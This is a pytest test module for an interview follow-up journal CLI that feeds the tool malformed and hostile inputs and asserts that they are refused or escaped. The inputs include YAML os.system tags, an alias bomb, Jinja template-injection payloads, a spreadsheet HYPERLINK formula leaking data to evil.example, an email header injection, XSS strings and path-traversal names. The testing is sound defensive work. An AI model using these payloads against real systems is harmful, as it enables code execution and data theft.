"""The hard cases of docs/hard-cases.md, each as whole runs of the command under limits: what it says, and what is on disk.

Every run has five seconds of the processor and 300 MB. None ends with a traceback or a signal, and none changes a byte unless that is
what it was asked for.
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from itertools import pairwise

import pytest
from limited_runs import bytes_of, run
from limits import HANGS, in_foreground
from northwind import ENTRY, NOW, TOML
from sample import ROOT

pytestmark = [pytest.mark.slow, pytest.mark.zone_free]

GOOD = "2026-11-18-northwind.md"
BAD = "bad.md"
HEAD = "---\ncompany: Bad\nrole: Engineer\ndate: 2026-11-18 14:00\n"
ROW = "Thank Dana Whitfield"  # of the good entry: it is there whatever stands beside it


# Files that cannot be read as they stand: one finding each, at its place, and the other entry keeps its rows.


def yaml(header):
    return f"{HEAD}{header}\n---\n"


names = "abcdefghi"
BOMB = "a: &a [lol]\n" + "\n".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in pairwise(names))
FINDINGS = {
    "P07": (yaml("x: y").encode().replace(b"Bad", b"Zo\xeb"), r"bad\.md:2:\d+: error: not UTF-8 \(byte 0xEB, line 2\)"),
    "P11": (yaml("x: [\ny: 1"), r"bad\.md:[56]:\d+: error: "),
    "P19 list": ("---\n- company\n---\n", r"bad\.md:2:\d+: error: "),
    "P19 scalar": ("---\ncompany\n---\n", r"bad\.md:2:\d+: error: "),
    "P19 empty": ("---\n---\n", r"bad\.md:\d:1: (error|warning): "),
    "P21 TOML": ("+++\ncompany = 'N'\nrole = 'R'\ndate = 2026-11-18\n+++\n", r"bad\.md:1:1: error: TOML front matter is not read"),
    "P21 Org": ("#+company: N\n#+role: R\n#+date: 2026-11-18\n", r"bad\.md:1:1: error: "),
    "P21 JSON": ('{"company": "N", "role": "R", "date": "2026-11-18"}\n', r"bad\.md:1:1: error: "),
    "Y01": (yaml(BOMB), r"bad\.md:5:\d+: error: "),
    "Y03": (yaml("x: " + "[" * 100_000), r"bad\.md:\d+:\d+: error: "),
    "Y05": (yaml("\n".join(" " * n + "a:" for n in range(1100))), r"bad\.md:\d+:\d+: error: "),
    "Y07": (yaml("x: !!python/object/apply:os.system ['touch owned']"), r"bad\.md:5:4: error: "),
    "Y09 binary": (yaml("x: !!binary aGVsbG8="), r"bad\.md:5:4: error: "),
    "Y09 set": (yaml("x: !!set {a, b}"), r"bad\.md:5:4: error: "),
    "Y09 omap": (yaml("x: !!omap [a: 1]"), r"bad\.md:5:4: error: "),
    "Y11": (yaml('x: "\\ud800"'), r"bad\.md:5:\d+: error: "),
    "Y13 TAG": ("---\n%TAG ! tag:x,2026:\n---\n" + HEAD[4:] + "---\n", r"bad\.md:\d+:\d+: error: "),
    "Y13 YAML": ("---\n%YAML 1.1\n---\n" + HEAD[4:] + "---\n", r"bad\.md:\d+:\d+: error: "),
    "M15": (yaml('interviewers: ["Zoe\\r\\nBcc: all@evil.example"]'), r"bad\.md:5:\d+: error: line break in "),
    "T zone": (yaml("timezone: IST"), r"bad\.md:5:11: error: .*IST"),
    "T path": (yaml("timezone: ../../etc/passwd"), r"bad\.md:5:11: error: "),
    "T offset": (yaml("timezone: UTC+2"), r"bad\.md:5:11: error: "),
    "T ambiguous": (yaml("decision_by: 03/04/2026"), r"bad\.md:5:14: error: .*ambiguous: 2026-04-03 or 2026-03-04"),
    "T no day": (yaml("decision_by: 2026-02-30"), r"bad\.md:5:14: error: "),
    "T other offset": (yaml("x: 1").replace("14:00", "14:00+05:00"), r"bad\.md:4:7: error: .*\+05:00.*-05:00"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "said"), FINDINGS.values(), ids=list(FINDINGS))
def test_a_file_that_cannot_be_read(text, said, make_journal):
    """Exit code 1 on every run, one line about it, and nothing of it is executed or changed."""
    folder = make_journal({GOOD: ENTRY, BAD: text}, TOML)
    before = bytes_of(folder)
    for _ in range(2):
        due = run(folder, "due")
        warned = "warning" in said and due.code == 0
        assert due.code == (0 if warned else 1)
        assert ROW in due.out
        if not warned:
            assert re.match(said, due.err), due.err
            assert len(due.err.splitlines()) == 1
            assert due.out.rstrip().endswith("could not be read: bad.md")
    check = run(folder, "check")
    assert re.search(said, check.out), check.out
    assert bytes_of(folder) == before
    assert not (folder.parent / "owned").exists()


def test_one_bad_file_among_fifty(make_journal):
    """P23: 49 rows, the last line names the file, exit code 1."""
    files = {f"2026-11-18-n{n}.md": ENTRY.replace("Northwind", f"Company {n}") for n in range(49)}
    ran = run(make_journal({**files, BAD: yaml("x: [")}, TOML), "table", "--json")
    assert ran.code == 1
    assert len({a["interview"] for a in json.loads(ran.out)["actions"]} - {None}) == 49
    due = run(make_journal({}, TOML), "due")
    assert (due.code, due.out.splitlines()[-1]) == (1, "could not be read: bad.md")


# What is read as it was typed, and kept as it stands.

ODD = {
    "P01": "\ncompany: Northwind   # mine\nrole: >-\n    Data\n    Engineer\ndate: '2026-11-18 14:00'\nzip: 01234\ncountry: NO\n\ninterviewers:\n    - name: Dana Whitfield   \n",
    "P03": "\r\ncompany: Northwind\r\nrole: Engineer\r\ndate: 2026-11-18 14:00\r\ninterviewers: [Dana Whitfield]\r\n",
    "P05": "\ncompany: Northwind\nrole: Engineer\ndate: 2026-11-18 14:00\ninterviewers: [Dana Whitfield]\n",
    "P17": "\ncompany: Northwind\nrole: 'null'\ndate: 2026-11-18 14:00\ncountry: NO\nx: {id: 1e3, zip: 01234, time: 12:30:45, name: ~}\ninterviewers: [Dana Whitfield]\n",
}  # fmt: skip


@pytest.mark.parametrize(("name", "header"), ODD.items(), ids=list(ODD))
def test_a_change_is_one_line(name, header, make_journal):
    """`done` adds one line to the log, and taking it back gives the old bytes: comments, quotes, endings, the mark of UTF-8."""
    end = "\r\n" if name == "P03" else "\n"
    start = "\ufeff" if name == "P05" else ""
    text = f"{start}---{header}---{end}{end}## Discussed{end}Loads.{end * 3}"
    folder = make_journal({GOOD: text.encode()}, TOML)
    assert run(folder, "done", "northwind", "thank-you").code == 0
    new = (folder / GOOD).read_bytes().decode()
    added = [line for line in new.splitlines(keepends=True) if line not in text.splitlines(keepends=True)]
    assert [line.strip()[:20] for line in added] == ["log:", "- {date: 2026-11-18 1"[:20]]
    assert all(line.endswith(end) for line in added)
    assert run(folder, "done", "northwind", "thank-you", "--undo").code == 0
    assert (folder / GOOD).read_bytes() == text.encode()


def test_a_null_byte_in_the_notes_is_kept(make_journal):
    """P09: nothing behind it is cut off."""
    text = ENTRY + "before\0after\n"
    folder = make_journal({GOOD: text}, TOML)
    assert run(folder, "done", "northwind", "thank-you").code in (0, 1)
    assert (folder / GOOD).read_bytes().endswith(b"before\0after\n")


def test_dots_end_a_header_or_are_told_of(make_journal):
    """P13: never an entry without its fields."""
    ran = run(make_journal({GOOD: ENTRY, BAD: HEAD + "...\n"}, TOML), "list", "--all")
    assert ("Bad" in ran.out and ran.code == 0) or (ran.code == 1 and "bad.md:" in ran.err)


def test_a_misspelt_key_is_a_warning(make_journal):
    """P15: it stays in the file; with --strict it fails."""
    folder = make_journal({GOOD: ENTRY.replace("interviewers:", "intreviewers:")}, TOML)
    assert run(folder, "check").code == 0
    strict = run(folder, "check", "--strict")
    assert strict.code == 1
    assert f"{GOOD}:5:1: warning: unknown key 'intreviewers' (did you mean interviewers?)" in strict.out


# Names on disk.


def test_files_beside_the_entries(make_journal):
    """D09: backups give no rows; only a copy that a program for syncing left behind is told of."""
    names = [f"{GOOD}~", f"#{GOOD}#", f".{GOOD}.swp", "4913", f"{GOOD}.orig"]
    copies = ["2026-11-18-northwind.sync-conflict-20261118-120000-ABCDEFG.md", "2026-11-18-northwind (conflicted copy).md"]
    folder = make_journal({GOOD: ENTRY, **dict.fromkeys([*names, *copies], ENTRY)}, TOML)
    assert run(folder, "due").out.count(ROW) == 1
    check = run(folder, "check", "--strict")
    assert check.code == 1
    assert not [name for name in names if f"{name}:" in check.out]
    assert copies[0] in check.out


def test_an_extended_attribute_is_kept(make_journal):
    """D11."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    try:
        os.setxattr(folder / GOOD, "user.tag", b"job")
    except OSError:
        pytest.skip("this file system has no extended attributes")
    assert run(folder, "done", "northwind", "thank-you").code == 0
    assert os.getxattr(folder / GOOD, "user.tag") == b"job"


def test_a_link_out_of_the_journal(make_journal):
    """D13: its target is neither read nor written."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    secret = folder.parent / "secret.md"
    secret.write_text(yaml("x: secret word"))
    (folder / BAD).symlink_to(secret)
    ran = run(folder, "done", "bad", "thank-you")
    assert ran.code in (1, 2, 3)
    assert "secret word" not in ran.out + ran.err
    assert secret.read_text() == yaml("x: secret word")
    assert "points outside the journal" in run(folder, "check").out


def test_a_read_only_file_is_refused(make_journal):
    """D15: renaming would replace it."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    (folder / GOOD).chmod(0o444)
    ran = run(folder, "done", "northwind", "thank-you")
    assert (ran.code, (folder / GOOD).read_text()) == (3, ENTRY)
    assert "read-only" in ran.err
    assert run(folder, "done", "northwind", "thank-you", "--force").code == 0


@pytest.mark.parametrize("kind", ["pipe", "folder", "socket", "device"])
def test_what_is_no_file(kind, make_journal):
    """D17: nobody waits for a writer; the others are shown."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    path = folder / "odd.md"
    match kind:
        case "pipe":
            os.mkfifo(path)
        case "folder":
            path.mkdir()
        case "socket":
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(os.path.relpath(path))
        case _:
            path.symlink_to("/dev/zero")
    ran = run(folder, "due")
    assert ROW in ran.out
    assert ran.code == (0 if kind == "folder" and "odd.md" not in ran.err else 1)


def opened(pid: int, fd: int) -> str:
    """What a process has open under a number; nothing where that is closed by now."""
    try:
        return os.readlink(f"/proc/{pid}/fd/{fd}")
    except OSError:
        return ""


def test_ctrl_c_in_the_middle(make_journal):
    """D19: 130, silent, and the file is the old one."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    argv = [sys.executable, "-m", "followup_kit", "--journal", os.fspath(folder), "--now", NOW, "done", "northwind", "thank-you"]
    lock = os.open(folder / ".followup.lock", os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(lock, fcntl.LOCK_EX)
    with in_foreground(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        while not any(opened(process.pid, fd).endswith(".followup.lock") for fd in range(3, 12)):
            assert process.poll() is None
            time.sleep(0.01)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=HANGS)
    os.close(lock)
    assert (process.returncode, out, err) == (130, "", "")
    assert (folder / GOOD).read_text() == ENTRY


def test_an_export_replaces_nothing(make_journal):
    """D21: without --force it is refused; into the journal an .md file never goes."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    target = folder.parent / "out.ics"
    target.write_text("mine")
    assert run(folder, "export", "ics", "-o", os.fspath(target)).code == 3
    assert target.read_text() == "mine"
    assert run(folder, "export", "ics", "-o", os.fspath(target), "--force").code == 0
    assert target.read_text().startswith("BEGIN:VCALENDAR")
    assert run(folder, "export", "csv", "-o", os.fspath(folder / "out.md")).code == 3
    assert not (folder / "out.md").exists()


def test_little_memory(make_journal):
    """D23: it fails, and the file is the old or the new one."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    argv = [sys.executable, "-m", "followup_kit", "--journal", os.fspath(folder), "--now", NOW, "done", "northwind", "thank-you"]
    for kilobytes in (16_000, 24_000, 32_000, 48_000):
        limited = ["sh", "-c", f'ulimit -v {kilobytes}; exec "$@"', "sh", *argv]
        done = subprocess.run(limited, capture_output=True, check=False, timeout=HANGS)
        text = (folder / GOOD).read_text()
        assert text == ENTRY or done.returncode == 0 or "sent: thank-you" in text
        if done.returncode == 0:
            break


# Names in texts: files, terminal, pages, other programs.


@pytest.mark.parametrize(
    "company",
    ["../../../etc/cron.d/x", "x" * 300, "\U0001f600" * 64, "-x", "--upload-pack=x", "a/b\\c", "CON", ". .", "a\u202eb"],
    ids=ascii,
)
def test_a_company_is_no_path(company, make_journal):
    """F01, F03, S13: one new file in the journal, of at most 255 bytes, or a refusal."""
    folder = make_journal({}, TOML)
    ran = run(folder, "new", f"--company={company}", "--role=Baker", "--date=2026-11-20")
    made = [p for p in folder.iterdir() if p.suffix == ".md"]
    assert (ran.code, len(made)) in ((0, 1), (2, 0)), ran
    assert all(
        len(os.fsencode(p.name)) <= 100 and p.name.startswith("2026-11-20-") and p.stat().st_mode & 0o777 == 0o600 for p in made
    )
    assert {p.name for p in folder.parent.iterdir()} <= {"journal", "state", ".local", ".cache"}


@pytest.mark.parametrize("company", ["a\nb", "a\x1b[31mb"])
def test_a_company_that_steers(company, make_journal):
    """F05: refused, or a clean name and a clean output."""
    ran = run(make_journal({}, TOML), "new", f"--company={company}", "--role=Baker", "--date=2026-11-20")
    assert ran.code in (0, 2)
    assert "\x1b" not in ran.out + ran.err


HOSTILE = "<img src=x onerror=alert(1)></script>{0} {x.__class__} %n $\\alpha$ =1+1"


def test_text_is_text_in_a_page(make_journal):
    """H01, H03, H05, H07, H09: tags, scripts, formulas and format strings stay text; only safe links are links."""
    text = ENTRY.replace("company: Northwind", f"company: '{HOSTILE}'").replace(
        "email:", "linkedin: 'javascript:alert(1)', email:"
    )
    folder = make_journal({GOOD: text}, TOML)
    for words in (["draft", "--format", "html"], ["draft"], ["due"], ["table", "--json"], ["show", GOOD.removesuffix(".md")]):
        ran = run(folder, *words)
        assert ran.code in (0, 1), ran
        assert "{0} {x.__class__} %n" in ran.out
        if "html" in words:
            assert "<img src=x" not in ran.out
            assert "<script" not in ran.out.lower()
            assert 'href="javascript' not in ran.out
            assert "&lt;img src=x" in ran.out


@pytest.mark.parametrize("template", ["{{ ().__class__.__mro__[1].__subclasses__() }}", "{% for i in range(10**9) %}x{% endfor %}", "{{ 'a' * 10**9 }}", "{{ cycler.__init__.__globals__.os.system('touch owned') }}"])  # fmt: skip
def test_a_template_that_harms(template, make_journal):
    """H11: it ends soon, with a finding, and does nothing."""
    folder = make_journal({GOOD: ENTRY, "templates/en/thank-you.txt.j2": template}, TOML)
    ran = run(folder, "draft", "northwind/thank-you")
    assert ran.code == 1
    assert ran.err.startswith("templates/en/thank-you.txt.j2:")
    assert not list(folder.parent.rglob("owned"))


FORMULAS = {
    "C01": '=HYPERLINK("http://evil.example/?"&A1,"x")', "C03": "-5 days", "C05": "\t=1+1", "C05 CR": "\r=1+1", "C07": "\uff1d1+1", "C07 plus": "\uff0b1", "C07 minus": "\uff0d1",
    "C07 at": "\uff20SUM(A1)", "plus": "+1", "at": "@SUM(A1)", "C09": "a\0b", "blank": " =1+1", "no-break": "\u00a0=1+1", "pipe": "|x", "quote": '"=1+1', "hidden": "\u200b=1+1",
}  # fmt: skip


@pytest.mark.parametrize("company", FORMULAS.values(), ids=list(FORMULAS))
def test_no_cell_is_a_formula(company, make_journal):
    """As many records as actions, no cell begins like a formula, whatever blanks come first; JSON has the text as it is, and no NaN."""
    folder = make_journal({GOOD: ENTRY.replace("company: Northwind", f"company: {json.dumps(company)}")}, TOML)
    told = run(folder, "table", "--json")
    actions = json.loads(told.out, parse_constant=pytest.fail)["actions"]
    assert told.out.endswith("}\n")
    for words in (["export", "csv"], ["table", "--format", "csv"]):
        ran = run(folder, *words)
        assert ran.code == told.code
        rows = list(csv.DictReader(io.StringIO(ran.out)))
        assert len(rows) == len(actions)
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if re.match("[\\s\u200b]*[=+\\-@\uff1d\uff0b\uff0d\uff20]", cell)]
        assert not [cell for cell in cells if "\0" in cell]
    assert told.code == 1 or {a["company"] for a in actions if a["interview"]} == {company.strip()}


def test_hidden_letters_in_names(make_journal):
    """F07, F09: shown as what they are, on one line each; `check` notes them."""
    folder = make_journal(
        {"\x1b[31mx\n\u202e.md": ENTRY.replace("Northwind", "Nor\u202ethwind"), "y\x1b.md": "---\nrole: [\n---\n"}, TOML
    )
    for words in (["due"], ["check"], ["list"]):
        ran = run(folder, *words)
        assert ran.code == 1
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", ran.out + ran.err)
    assert "<U+202E>" in run(folder, "list").out
    assert all(re.match(r".*\.md:\d+:\d+: (error|warning): ", line) for line in run(folder, "check").out.splitlines())


def test_a_flood_of_marks(make_journal):
    """F11: a thousand of them do not break a line."""
    folder = make_journal({GOOD: ENTRY.replace("Northwind", "No" + "\u0301\u200b" * 500 + "rth")}, TOML)
    assert max(map(len, run(folder, "due").out.splitlines())) < 200


@pytest.mark.parametrize(
    ("value", "said"), [("~/no where", "no where"), ("relative/none", "relative/none"), ("/nonexistent/x", "/nonexistent/x")]
)
def test_a_journal_that_is_not_there(value, said, make_journal):
    """F13: the path and where it comes from; nothing is made."""
    folder = make_journal({}, TOML)
    ran = run(folder, "due", journal=False, environ={"FOLLOWUP_JOURNAL": value})
    assert (ran.code, ran.out) == (2, "")
    assert said in ran.err
    assert "$FOLLOWUP_JOURNAL" in ran.err
    elsewhere = folder.parent / "elsewhere"
    elsewhere.mkdir()
    bare = run(folder, "due", journal=False, cwd=elsewhere)
    assert (bare.code, bare.out, list(elsewhere.iterdir())) == (2, "", [])


def test_a_plain_locale(make_journal):
    """F15: files are UTF-8 whatever the locale says."""
    folder = make_journal({"2026-11-18-zoë.md": ENTRY.replace("Northwind", "Zoë 東")}, TOML)
    for environ in ({"LC_ALL": "C", "PYTHONUTF8": "0"}, {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}):
        ran = run(folder, "due", environ=environ)
        assert (ran.code, "Zoë 東" in ran.out) == (0, True)


# Secrets.


def test_new_files_are_the_persons_alone(make_journal):
    """S01, S09: whatever the umask; what can be made again is kept out of git from the first day on."""
    folder = make_journal({GOOD: ENTRY}, TOML)
    old = os.umask(0o022)
    try:
        own = folder.parent / "own"
        assert run(folder, "init", os.fspath(own), "--timezone", "Europe/Oslo", journal=False).code == 0
        assert run(folder, "draft", "--save", "--format", "eml").code == 0
        assert run(folder, "export", "csv", "-o", os.fspath(folder / "out.csv")).code == 0
    finally:
        os.umask(old)
    made = [own, *(p for p in own.rglob("*") if ".git" not in p.parts), *(folder / "drafts").rglob("*"), folder / "out.csv"]
    assert {p.name: oct(p.stat().st_mode & 0o777) for p in made if p.stat().st_mode & 0o077} == {}
    assert {"*.csv", "*.ics", "*.eml", "*.html"} <= set((own / ".gitignore").read_text().splitlines())


def test_what_is_private_stays(make_journal):
    """S03, S05, S07: nothing of the notes in a finding, nothing private in what goes to others, no file where none was asked for."""
    text = ENTRY + "\n## Minuses\nsecret fear\n"
    folder = make_journal({GOOD: text, BAD: yaml("x: [") + "secret fear\nsecret@private.example\n"}, TOML)
    before = {p.name for p in folder.parent.iterdir()} | {p.name for p in folder.iterdir()}
    for words in (
        ["draft"],
        ["draft", "--brief"],
        ["export", "ics"],
        ["export", "csv"],
        ["export", "json"],
        ["export", "vcf"],
        ["due"],
        ["check"],
    ):
        ran = run(folder, *words)
        assert "secret" not in ran.out + ran.err
    assert {p.name for p in folder.parent.iterdir()} | {p.name for p in folder.iterdir()} <= before | {".cache", ".local"}


# Time.


def deadline(make_journal, date, zone, country=None, now="2026-01-01T09:00", playbook="balanced"):
    """When the thank-you after an interview is due, in the zone of the interview."""
    text = f"---\ncompany: N\nrole: E\ndate: {date}\ntimezone: {zone}\ninterviewers: [Dana Whitfield <d@n.example>]\n---\n"
    toml = f'timezone = "{zone}"\nplaybook = "{playbook}"\n' + (f'country = "{country}"\n' if country else "")
    ran = run(make_journal({GOOD: text}, toml), "table", "--json", now=now)
    row = next(a for a in json.loads(ran.out)["actions"] if a["kind"] == "thank-you")
    return row["due"], ran.err


@pytest.mark.parametrize(
    ("date", "zone", "due"),
    [
        ("2026-03-28 13:00-14:00", "Europe/Oslo", "2026-03-29T15:00+02:00"),
        ("2026-10-24 13:00-14:00", "Europe/Oslo", "2026-10-25T13:00+01:00"),
        ("2026-11-18 23:30\nduration: 1h", "Europe/Oslo", "2026-11-20T00:30+01:00"),
    ],
)
def test_a_day_is_24_hours(date, zone, due, make_journal):
    """Through a change of the clocks, and from the end where an interview goes past midnight."""
    assert deadline(make_journal, date, zone)[0][:16] + deadline(make_journal, date, zone)[0][-6:] == due


@pytest.mark.parametrize(
    ("date", "starts"),
    [("2026-03-29 02:30", "2026-03-29T03:30"), ("2026-10-25 02:30", "2026-10-25T02:30")],
)
def test_a_time_that_is_not_there_or_twice(date, starts, make_journal):
    """The one behind the gap, the first of two; both with a warning."""
    text = f"---\ncompany: N\nrole: E\ndate: {date}\ntimezone: Europe/Oslo\ninterviewers: [Dana]\n---\n"
    folder = make_journal({GOOD: text}, 'timezone = "Europe/Oslo"\n')
    assert re.search(rf"{GOOD}:4:7: warning: ", run(folder, "check", now="2026-01-01T09:00").out)
    told = json.loads(run(folder, "due", "--json", now="2026-01-01T09:00").out)
    assert starts in json.dumps(told)


def test_the_page_names_tests_that_are_there():
    """docs/hard-cases.md promises nothing that no test shows, and names each case of this module."""
    page = (ROOT / "docs" / "hard-cases.md").read_text()
    named = set(re.findall(r"`(test_\w+\.py)::(test_\w+)`", page))
    files = {path.name: path.read_text() for path in (ROOT / "tests").rglob("test_*.py")}
    assert {(file, test) for file, test in named if f"def {test}(" not in files.get(file, "")} == set()
    rows = [line for line in page.splitlines() if re.match(r"\| [A-Z]", line)]
    assert len(rows) > 50
    assert all(row.count(" | ") == 4 and "::test_" in row for row in rows)
